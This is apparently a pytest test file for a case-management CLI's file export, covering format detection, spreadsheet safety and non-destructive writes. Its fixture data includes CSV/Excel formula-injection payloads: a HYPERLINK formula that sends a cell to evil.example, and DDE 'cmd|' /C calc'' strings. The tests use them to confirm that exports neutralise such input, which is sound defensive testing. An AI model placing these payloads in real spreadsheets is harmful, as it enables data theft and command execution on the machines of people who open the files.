"""-o FILE: the format from the extension, workbooks for people (read back
with openpyxl, and once with LibreOffice), and writes that never destroy:
not the store, not through a symlink, not another user's file, and nothing
partial after a full disk or Ctrl-C."""

from __future__ import annotations

import csv
import errno
import json
import os
import shutil
import sqlite3
import subprocess
from datetime import datetime

import openpyxl
import pytest

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "Zoë Brontë-O'Hara"]


@pytest.fixture
def hostile(team):
    for n, name in enumerate(HOSTILE, 1):
        team.case(f"H-{n}", name=name, officer="CO1")
        team.ok("contact", "log", f"H-{n}", "--channel", "email", "--direction", "in",
                "--party", "parent", "--summary", name, "--at", "2026-11-02T10:00",
                now="2026-11-02T10:00")
    return team


def leftovers(folder) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.endswith(".part")]


# -- the format from the extension ---------------------------------------------------------
def test_the_extension_picks_the_format(hostile, tmp_path):
    hostile.ok("overdue", "-o", str(tmp_path / "o.csv"))
    rows = list(csv.DictReader((tmp_path / "o.csv").open(encoding="utf-8")))
    assert [r["child"] for r in rows][:1] == ["'" + HOSTILE[0]]  # CSV stays neutralised
    hostile.ok("overdue", "-o", str(tmp_path / "o.json"))
    assert len(json.loads((tmp_path / "o.json").read_text())) == len(HOSTILE)
    hostile.ok("overdue", "-o", str(tmp_path / "O.XLSX"))
    sheet = openpyxl.load_workbook(tmp_path / "O.XLSX").active
    assert sheet.max_row == len(HOSTILE) + 1
    hostile.ok("export", "cases", "-o", str(tmp_path / "cases.json"))
    assert json.loads((tmp_path / "cases.json").read_text())[0]["ref"] == "H-1"
    # --format wins over a name that says nothing
    hostile.ok("overdue", "--format", "csv", "-o", str(tmp_path / "o.txt"))
    assert (tmp_path / "o.txt").read_text().startswith("followup_id,")
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize(("args", "line"), [
    (("overdue", "--format", "csv", "-o", "x.json"),
     "error: --format csv contradicts the file name 'x.json' (json); change one of them"),
    (("overdue", "--format", "xlsx"), "error: --format xlsx writes a file; add -o FILE.xlsx"),
    (("overdue", "-o", "x.txt"), "error: cannot tell the format of 'x.txt' from its name; "
     "name it .csv, .json or .xlsx, or give --format"),
    (("overdue", "--format", "table", "-o", "x.csv"), "error: a table is drawn for the screen "
     "and not written to a file; use -o with csv, json, xlsx"),
    (("case", "show", "H-1", "-o", "x.xlsx"), "error: cannot tell the format of 'x.xlsx' from "
     "its name; name it .json, or give --format"),
    (("report", "kpi", "--format", "xlsx", "-o", "k.xlsx"),
     "error: --format 'xlsx' is not offered here; use table, csv, json or html"),
    (("report", "kpi", "-o", "k.xlsx"), "error: cannot tell the format of 'k.xlsx' from its "
     "name; name it .csv, .json or .html, or give --format"),
    (("report", "sen2", "--year", "2027", "-o", "s.csv"), "error: 's.csv' names a csv file, "
     "which is not offered here; use xml or xlsx"),
])
def test_format_contradictions_are_usage_errors(hostile, tmp_path, args, line, monkeypatch):
    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.chdir(out)
    assert hostile.fails(2, *args) == line
    assert list(out.iterdir()) == []


# -- workbooks -----------------------------------------------------------------------------
def test_workbook_cells_are_plain_text_dates_are_dates(hostile, tmp_path):
    target = tmp_path / "overdue.xlsx"
    hostile.ok("overdue", "-o", str(target))
    book = openpyxl.load_workbook(target)
    ws = book.active
    header = [c.value for c in ws[1]]
    assert header[:3] == ["id", "case ref", "child"]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    children = [ws.cell(row=r, column=3) for r in range(2, ws.max_row + 1)]
    assert sorted(c.value for c in children) == sorted(HOSTILE)
    for c in children:
        assert c.data_type == "s"  # a string, never a formula
        assert not c.quotePrefix  # and no apostrophe shows
    due = ws.cell(row=2, column=header.index("due") + 1)
    assert isinstance(due.value, datetime) and due.number_format == "yyyy-mm-dd"
    late = ws.cell(row=2, column=header.index("late") + 1)
    assert late.data_type == "n"
    assert ws.column_dimensions["C"].width >= 14
    # no formula anywhere in the sheet's XML
    import zipfile

    with zipfile.ZipFile(target) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml


def test_export_and_agenda_workbooks(hostile, tmp_path):
    hostile.ok("export", "contacts", "-o", str(tmp_path / "contacts.xlsx"))
    ws = openpyxl.load_workbook(tmp_path / "contacts.xlsx").active
    header = [c.value for c in ws[1]]
    summaries = [ws.cell(row=r, column=header.index("summary") + 1).value
                 for r in range(2, ws.max_row + 1)]
    assert summaries == HOSTILE
    at = ws.cell(row=2, column=header.index("at") + 1)
    assert at.value == datetime(2026, 11, 2, 10, 0)  # London time, a real date-time
    hostile.ok("panel", "schedule", "MAP", "--from", "2026-11-27", "--to", "2026-11-27",
               "--weekday", "fri")
    hostile.ok("panel", "refer", "H-1", "--panel", "MAP", "--request", "ehcna",
               "--meeting", "2026-11-27")
    hostile.ok("panel", "declare", "--panel", "MAP", "--meeting", "2026-11-27", "--member",
               "=cmd|' /C calc'!A0", "--case", "H-1", "--interest", "@neighbour")
    hostile.ok("panel", "agenda", "MAP", "--meeting", "2026-11-27", "-o",
               str(tmp_path / "agenda.xlsx"))
    ws = openpyxl.load_workbook(tmp_path / "agenda.xlsx").active
    row = {h.value: c for h, c in zip(ws[1], ws[2], strict=True)}
    assert row["child"].value == HOSTILE[0] and row["child"].data_type == "s"
    assert row["declarations"].value == "=cmd|' /C calc'!A0: @neighbour"
    assert row["declarations"].data_type == "s"
    assert isinstance(row["papers due"].value, datetime)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_the_workbook_as_plain_text(hostile, tmp_path):
    target = tmp_path / "cases.xlsx"
    hostile.ok("export", "cases", "-o", str(target))
    out = tmp_path / "out"
    out.mkdir()
    utf8_csv = "csv:Text - txt - csv (StarCalc):44,34,76"
    done = subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                           "--convert-to", utf8_csv, "--outdir", str(out), str(target)],
                          capture_output=True, text=True, timeout=180)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader((out / "cases.csv").open(encoding="utf-8")))
    assert [r["name"] for r in rows] == HOSTILE  # as typed: nothing ran, no apostrophe
    assert rows[0]["dob"] == "2016-05-04"


# -- writes that never destroy -------------------------------------------------------------
def test_the_store_is_never_an_output(hostile, store_path, tmp_path):
    before = store_path.read_bytes()
    for name in (str(store_path), f"{store_path}-wal", f"{store_path}-shm"):
        line = hostile.fails(1, "export", "cases", "--format", "csv", "-o", name)
        assert line == f"error: '{name}' is the store itself (or one of its files); " \
            "nothing was written"
    hard = tmp_path / "hard-link.csv"
    os.link(store_path, hard)
    assert "is the store itself" in hostile.fails(1, "export", "cases", "-o", str(hard))
    link = tmp_path / "link.csv"
    link.symlink_to(store_path)
    assert "is the store itself" in hostile.fails(1, "export", "cases", "-o", str(link))
    assert store_path.read_bytes() == before
    assert sqlite3.connect(store_path).execute("PRAGMA integrity_check").fetchone() == ("ok",)
    assert len(hostile.json("case", "list")) == len(HOSTILE)  # the store still works


def test_a_symlink_is_replaced_not_written_through(hostile, tmp_path):
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me\n")
    link = tmp_path / "cases.csv"
    link.symlink_to(precious)
    hostile.ok("export", "cases", "-o", str(link))
    assert precious.read_text() == "keep me\n"
    assert not link.is_symlink() and link.read_text().startswith("ref,name,")
    assert oct(os.stat(link).st_mode & 0o777) == "0o600"


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a file to another user")
def test_another_users_file_is_refused(hostile, tmp_path):
    theirs = tmp_path / "theirs.csv"
    theirs.write_text("their data\n")
    os.chown(theirs, 65534, 65534)
    assert hostile.fails(1, "export", "cases", "-o", str(theirs)) == \
        f"error: '{theirs}' belongs to another user; nothing was written"
    assert theirs.read_text() == "their data\n"


def test_a_full_disk_leaves_the_old_file(hostile, tmp_path, monkeypatch):
    target = tmp_path / "cases.csv"
    target.write_text("last week's export\n")
    import send_cli.render.files as files

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(files.os, "fsync", full)
    line = hostile.fails(3, "export", "cases", "-o", str(target))
    assert line == f"error: no space left on {tmp_path} to write 'cases.csv': nothing was " \
        "written"
    assert target.read_text() == "last week's export\n"
    assert leftovers(tmp_path) == []
    monkeypatch.undo()
    # the same for a workbook
    book = tmp_path / "cases.xlsx"
    book.write_bytes(b"old")
    monkeypatch.setattr(files.os, "fsync", full)
    hostile.fails(3, "export", "cases", "-o", str(book))
    assert book.read_bytes() == b"old" and leftovers(tmp_path) == []


def test_ctrl_c_while_writing_leaves_the_old_file(hostile, tmp_path, monkeypatch):
    target = tmp_path / "overdue.csv"
    target.write_text("yesterday\n")
    import send_cli.render as render

    real = render.write_csv

    def interrupted(rows, keys, fh):
        fh.write("half a file")
        raise KeyboardInterrupt

    monkeypatch.setattr(render, "write_csv", interrupted)
    result = hostile("overdue", "-o", str(target))
    assert result.exit_code == 130
    assert result.stderr == "interrupted: nothing was changed\n"
    assert target.read_text() == "yesterday\n" and leftovers(tmp_path) == []
    monkeypatch.setattr(render, "write_csv", real)
    hostile.ok("overdue", "-o", str(target))
    assert target.read_text().startswith("followup_id,")


def test_a_folder_or_missing_folder_is_a_usage_error(hostile, tmp_path):
    assert hostile.fails(2, "export", "cases", "-o", str(tmp_path / "nope" / "x.csv")) == \
        f"error: cannot write '{tmp_path / 'nope' / 'x.csv'}': the folder " \
        f"'{tmp_path / 'nope'}' does not exist"
